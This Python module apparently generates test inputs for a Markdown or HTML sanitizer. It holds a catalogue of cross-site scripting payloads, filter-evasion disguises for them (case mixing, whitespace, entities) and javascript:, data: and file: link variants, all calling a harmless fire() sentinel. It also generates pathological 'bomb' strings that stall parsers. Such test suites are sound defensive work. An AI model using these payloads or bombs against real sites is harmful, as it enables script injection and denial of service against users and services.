"""Texts that attack: a page, by calling ``fire()`` when a browser takes them for HTML; a program, by work."""

from __future__ import annotations

import itertools
from collections.abc import Callable, Mapping

CALL = "fire()"

# What acts by itself, without a click: the kinds of HTML that the known collections are made of.
_KINDS = {
    "script": "<script>{call}</script>",
    "script-src-data": "<script src='data:text/javascript,{call}'></script>",
    "script-module": "<script type=module>{call}</script>",
    "img-error": "<img src=x: onerror={call}>",
    "img-load": "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload={call} onerror={call}>",
    "svg-load": "<svg onload={call}>",
    "svg-script": "<svg><script>{call}</script></svg>",
    "svg-animate": "<svg><animate attributeName=x dur=1s onbegin={call}>",
    "svg-set": "<svg><set attributeName=x to=1 onbegin={call}>",
    "svg-image": "<svg><image href=x: onerror={call}>",
    "video-source": "<video><source src=x: onerror={call}></video>",
    "video": "<video src=x: onerror={call}>",
    "audio": "<audio src=x: onerror={call}>",
    "details": "<details open ontoggle={call}>x",
    "input-focus": "<input autofocus onfocus={call}>",
    "textarea-focus": "<textarea autofocus onfocus={call}>",
    "select-focus": "<select autofocus onfocus={call}>",
    "button-focus": "<button autofocus onfocus={call}>x</button>",
    "div-focus": "<div tabindex=1 autofocus onfocus={call}>x</div>",
    "animation": "<style>@keyframes k{{}}</style><b style='animation:k 1ms' onanimationstart={call}>x</b>",
    "animation-end": "<style>@keyframes k{{}}</style><b style='animation:k 1ms' onanimationend={call}>x</b>",
    "transition": "<style>b{{transition:all 1ms}}b:not(.x){{color:red}}</style><img src=x: onerror={call}>",
    "marquee": "<marquee onstart={call}>x</marquee>",
    "iframe-srcdoc": "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "iframe-javascript": "<iframe src='javascript:parent.{call}'></iframe>",
    "iframe-load": "<iframe onload={call}></iframe>",
    "object-error": "<object data=x: onerror={call}></object>",
    "object-load": "<object data='data:text/html,x' onload={call}></object>",
    "embed": "<embed src='data:text/html,x' onload={call}>",
    "link-error": "<link rel=stylesheet href=x: onerror={call}>",
    "link-load": "<link rel=stylesheet href='data:text/css,a' onload={call}>",
    "style-load": "<style onload={call}></style>",
    "body-load": "<body onload={call}>",
    "form-javascript": "<form id=f action='javascript:{call}'></form><script>f.submit()</script>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=javascript:1'><img src=x: onerror={call}>",
    "math": "<math><mtext><img src=x: onerror={call}></mtext></math>",
    "template-break": "<template></template><img src=x: onerror={call}>",
    "noscript-title": '<noscript><p title="</noscript><img src=x: onerror={call}>">',
    "comment-break": "<!--><img src=x: onerror={call}>-->",
    "cdata-break": "<![CDATA[><img src=x: onerror={call}>]]>",
    "title-break": "<title></title><img src=x: onerror={call}>",
    "textarea-break": "<textarea></textarea><img src=x: onerror={call}>",
    "attribute-break": '"><img src=x: onerror={call}>',
    "apostrophe-break": "'><img src=x: onerror={call}>",
    "style-break": "</style><img src=x: onerror={call}>",
    "script-break": "</script><img src=x: onerror={call}>",
    "custom-element": "<x-y tabindex=1 autofocus onfocus={call}>x</x-y>",
    "unclosed": "<img src=x: onerror={call} ",
    "slash": "<img/src=x:/onerror={call}>",
    "dialog": "<dialog open><input autofocus onfocus={call}></dialog>",
}

# The disguises in which they pass a filter that looks for the plain form.
_DISGUISES = {
    "plain": lambda text: text,
    "upper": lambda text: (
        text.replace("<i", "<I").replace("<s", "<S").replace("onerror", "oNeRrOr").replace("onload", "ONLOAD")
    ),
    "newline": lambda text: text.replace(" on", "\non"),
    "tab": lambda text: text.replace(" on", "\ton"),
    "form-feed": lambda text: text.replace(" on", "\x0con"),
    "before": lambda text: f"**bold** {text}",
    "list": lambda text: f"- item {text}",
    "quoted": lambda text: text.replace(f"={CALL}", f'="{CALL}"'),
    "entities": lambda text: text.replace(f"={CALL}", "=&#102;&#105;re&lpar;&rpar;"),
    "nested": lambda text: f"<div><p><b>{text}",
}

# What acts when it is clicked.
LINKS = [
    "javascript:fire()",
    "JaVaScRiPt:fire()",
    "javascript&colon;fire()",
    "javascript&#58;fire()",
    "&#106;avascript:fire()",
    "&#x6A;&#x61;vascript:fire()",
    "java&Tab;script:fire()",
    "java&NewLine;script:fire()",
    "javascript:fire()//https://example.org/",
    "javascript://example.org/%0afire()",
    "javascript:%66ire()",
    "javascript:void fire()",
    "javascript:(fire)()",
    "javascript:window['fire']()",
    "javascript:eval('fire()')",
    "javascript:setTimeout(fire)",
    "javascript:fire`1`",
    "javascript:\\u0066ire()",
    "%6Aavascript:fire()",
    "vbscript:fire()",
    "data:text/html,<script>opener.fire()</script>",
    "data:text/html;base64,PHNjcmlwdD5vcGVuZXIuZmlyZSgpPC9zY3JpcHQ+",
    "file:///etc/hostname",
    "blob:https://example.org/1",
]


def payloads() -> dict[str, str]:
    """Return every attack in every disguise that changes it, by name."""
    found: dict[str, str] = {}
    for (kind, text), (disguise, change) in itertools.product(_KINDS.items(), _DISGUISES.items()):
        disguised = change(text.format(call=CALL))
        if disguised not in found.values():
            found[f"{kind}-{disguise}"] = disguised
    return found


# What keeps a program busy that looks back, or ahead, from each place of a text anew. Those of Markdown are the known
# ones, https://github.com/commonmark/cmark/blob/master/test/pathological_tests.py; the others are for our own rules.
_REPEATED = {
    "one-word": "a",
    "one-arabic-word": "ا",
    "spaces": " ",
    "lines": "a\n",
    "empty-lines": "\n",
    "closers-of-emphasis": "a_ ",
    "openers-of-emphasis": "_a ",
    "mismatched-emphasis": "*a_ ",
    "links-open": "[a",
    "links-close": "a]",
    "links-in-images": "![[]()",
    "links-half-open": "[a](<b",
    "links-without-end": "[a](b '",
    "links-and-emphasis": "**x [a*b**c*](d)",
    "brackets-in-brackets": "[ (](",
    "definitions-without-end": "[a]: b '\n",
    "comments": "</a<!--",
    "entities": "&#1",
    "escapes": "\\*",
    "addresses": "<https://a",
    "quotations-in-quotations": "> ",
    "lists-in-lists": "* ",
    "lists": "1. a\n\n   b\n",
    "headings": "### a\n",
    "underlined": "a\n-\n",
    "fences": "```\na\n",
    "cells": "a|b\n",
    "citations": "[^S99] ",
    "citations-open": "[^",
    "scripts": "](javascript:x ",
    "tags": "<b>",
    "stops": ".",
    "denials": "no 5 ",
    "shares": "5% ",
    "numbers": "نحو 5 و",
    "praise": "رائدة ",
    "praise-in-english": "world-class ",
    "signs": "\u0610",
    "marks": "ا\u0651\u064e",
    "commas": "ا, ",
    "quotation-marks": 'ا "',
    "invisible": "\u200b",
    "controls": "\x01",
}
_BUILT: dict[str, Callable[[int], str]] = {
    "emphasis-in-emphasis": lambda size: "*a **a " * (size // 14) + "b" + " a** a*" * (size // 14),
    "brackets": lambda size: "[" * (size // 2) + "a" + "]" * (size // 2),
    "stars": lambda size: "*" * (size // 2) + "a" + "*" * (size // 2),
    "code-of-all-lengths": lambda size: "".join("a" + "`" * n for n in range(int((2 * size) ** 0.5))),
    "definitions": lambda size: "".join(f"[{n}]: u\n" for n in range(size // 16)) + "\n" + "[0] " * (size // 16),
    "deep-lists": lambda size: "".join("  " * n + "* a\n" for n in range(int(size**0.5))),
    "gap-in-an-address": lambda size: "](" + " " * size + "x",
    "gap-in-a-heading": lambda size: "### a" + " " * size + "b",
    "stretched": lambda size: "ا ـ " + "ا" * size,
    "stops-and-a-word": lambda size: "." * size + "a",
}


def bombs() -> Mapping[str, Callable[[int], str]]:
    """Return what makes each text that keeps a program busy, of about so many characters, by name."""

    def repeated(unit: str) -> Callable[[int], str]:
        return lambda size: unit * (size // len(unit))

    return {name: repeated(unit) for name, unit in _REPEATED.items()} | _BUILT
